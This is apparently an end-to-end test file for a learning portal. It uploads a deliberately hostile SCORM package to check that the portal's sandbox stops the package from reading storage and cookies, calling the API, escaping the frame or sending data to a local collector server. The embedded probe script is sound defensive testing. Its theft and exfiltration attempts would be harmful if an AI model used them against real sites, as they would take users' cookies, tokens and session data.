import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { registerFreshMember } from '../support/members';
import { createModuleForPackage, scormZip, showModule, uploadPackage } from '../support/scorm-packages';
import { apiToken, signIn } from '../support/session';
import { expect, type FrameLocator, type Page, test } from '../support/test';

/** A tiny HTTP server on 127.0.0.1 that records every request it gets. */
async function startCollector(): Promise<{ url: string; hits: string[]; server: Server }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.end('danke');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server };
}

/**
 * The probes of a hostile page: each one tries to get at the portal or out of the frame and
 * writes what it got into a list item `data-probe=<name>`: "ERBEUTET …" if it got anything.
 */
function probesScript(collector: string, framed: boolean): string {
  return `
var list = document.getElementById('results');
function report(name, text) {
  var item = document.createElement('li');
  item.setAttribute('data-probe', name);
  item.textContent = name + ': ' + text;
  list.appendChild(item);
}
function probe(name, take) {
  try {
    var value = take();
    report(name, value === null || value === undefined || value === '' ? 'nichts' : 'ERBEUTET ' + String(value).slice(0, 200));
  } catch (e) {
    report(name, 'blockiert (' + e.name + ')');
  }
}
probe('localStorage', function () { return localStorage.length + ' Einträge ' + localStorage.getItem('apopunkt.e2e-geheimnis'); });
probe('sessionStorage', function () { return sessionStorage.length + ' Einträge'; });
probe('cookie', function () { return document.cookie; });
report('bridge', window.API || window.API_1484_11 ? 'vorhanden' : 'fehlt');
fetch('/api/v1/me', { credentials: 'include' }).then(function (r) { return r.text(); }).then(
  function (t) { report('fetch-api', 'ERBEUTET ' + t.slice(0, 200)); },
  function (e) { report('fetch-api', 'blockiert (' + e.name + ')'); });
fetch('${collector}/fetch', { method: 'POST', mode: 'no-cors', body: 'x' }).then(
  function () { report('fetch-collector', 'ERBEUTET gesendet'); },
  function (e) { report('fetch-collector', 'blockiert (' + e.name + ')'); });
new Image().src = '${collector}/image';
${
  framed
    ? `probe('parent.document', function () { return parent.document.title || 'lesbar'; });
probe('parent.localStorage', function () { return parent.localStorage.length + ' Einträge'; });
report('fertig', 'ja');
// Leaving the frame, on a click (a user activation, which opens more doors than a script alone).
document.getElementById('attack').addEventListener('click', function () {
  probe('window.open', function () { return window.open('${collector}/popup?d=' + location.href); });
  probe('top.location', function () { top.location = '${collector}/top'; return null; });
  probe('top.location.href', function () { top.location.href = '${collector}/top-href'; return null; });
  report('angegriffen', 'ja');
});`
    : `report('fertig', 'ja');`
}`;
}

function hostilePage(collector: string, framed: boolean): string {
  return `<!doctype html><html lang="de"><head><meta charset="utf-8"><title>Feindliches Paket</title></head>
<body><h1>Feindliches Paket</h1>
<form id="steal" method="post" action="${collector}/form"><input name="beute" value="token">
<button type="submit">Formular senden</button></form>
<button id="attack" type="button">Angreifen</button>
<ul id="results"></ul>
<script>${probesScript(collector, framed)}</script></body></html>`;
}

/** The probe results of the page or frame ("name: what it got"), once all are in. */
async function results(scope: Page | FrameLocator): Promise<string[]> {
  await expect(scope.locator('[data-probe="fertig"]')).toBeVisible({ timeout: 20_000 });
  await expect(scope.locator('[data-probe^="fetch-"]')).toHaveCount(2);
  return scope.locator('[data-probe]').allTextContents();
}

test('a hostile SCORM package gets nothing of the portal and reaches no collector, framed or opened directly', async ({
  page,
  request,
}) => {
  test.setTimeout(180_000);
  const collector = await startCollector();
  try {
    const token = await apiToken(request, 'admin@demo.apopunkt.de');
    const name = `E2E SCORM feindlich ${Date.now()}`;
    const module = await createModuleForPackage(request, token, name);
    const zip = scormZip('1.2', name, {
      'sco/index.html': hostilePage(collector.url, true),
      'sco/direkt.html': hostilePage(collector.url, false),
    });
    const launchUrl = await uploadPackage(request, token, module.uuid, zip);
    await showModule(request, token, module.uuid);

    const learner = await registerFreshMember(request, { firstName: 'Mia', premium: true });
    await signIn(page, learner.email, learner.firstName);
    await page.evaluate(() => localStorage.setItem('apopunkt.e2e-geheimnis', 'geheim'));
    const popups: string[] = [];
    page.context().on('page', (popup) => popups.push(popup.url()));

    await page.goto(`/play/${module.slug}`);
    await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
    const frame = page.frameLocator('iframe[title^="Lerninhalt"]');
    const framed = await results(frame);
    expect(framed.join('\n')).not.toContain('ERBEUTET');
    for (const name of ['localStorage', 'sessionStorage', 'cookie', 'parent.document', 'parent.localStorage']) {
      expect(framed, name).toContainEqual(expect.stringMatching(new RegExp(`^${name}: blockiert \\(SecurityError\\)`)));
    }
    expect(framed).toContain('bridge: vorhanden');
    await frame.getByRole('button', { name: 'Angreifen' }).click();
    await expect(frame.locator('[data-probe="angegriffen"]')).toBeVisible();
    const escapes = await frame.locator('[data-probe^="window.open"], [data-probe^="top.location"]').allTextContents();
    expect(escapes).toHaveLength(3);
    expect(escapes.join('\n')).not.toContain('ERBEUTET');
    expect(escapes).toContain('window.open: nichts');
    // Last: the blocked form post leaves an error page in the frame.
    await frame.getByRole('button', { name: 'Formular senden' }).click();
    // Long enough for a navigation, popup or form post to arrive if one had got out.
    await page.waitForTimeout(2000);
    expect(collector.hits).toEqual([]);
    expect(page.url()).toMatch(new RegExp(`/play/${module.slug}$`));
    await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
    expect(popups).toEqual([]);
    expect(await page.evaluate(() => localStorage.getItem('apopunkt.e2e-geheimnis'))).toBe('geheim');

    // A direct link to a file of the package: a page of its own, still in an opaque origin.
    await page.goto(launchUrl.replace('index.html', 'direkt.html'));
    const direct = await results(page);
    expect(direct.join('\n')).not.toContain('ERBEUTET');
    expect(direct).toContainEqual(expect.stringMatching(/^localStorage: blockiert \(SecurityError\)/));
    expect(direct).toContainEqual(expect.stringMatching(/^cookie: blockiert \(SecurityError\)/));
    await page.waitForTimeout(500);
    expect(collector.hits).toEqual([]);
  } finally {
    collector.server.close();
  }
});
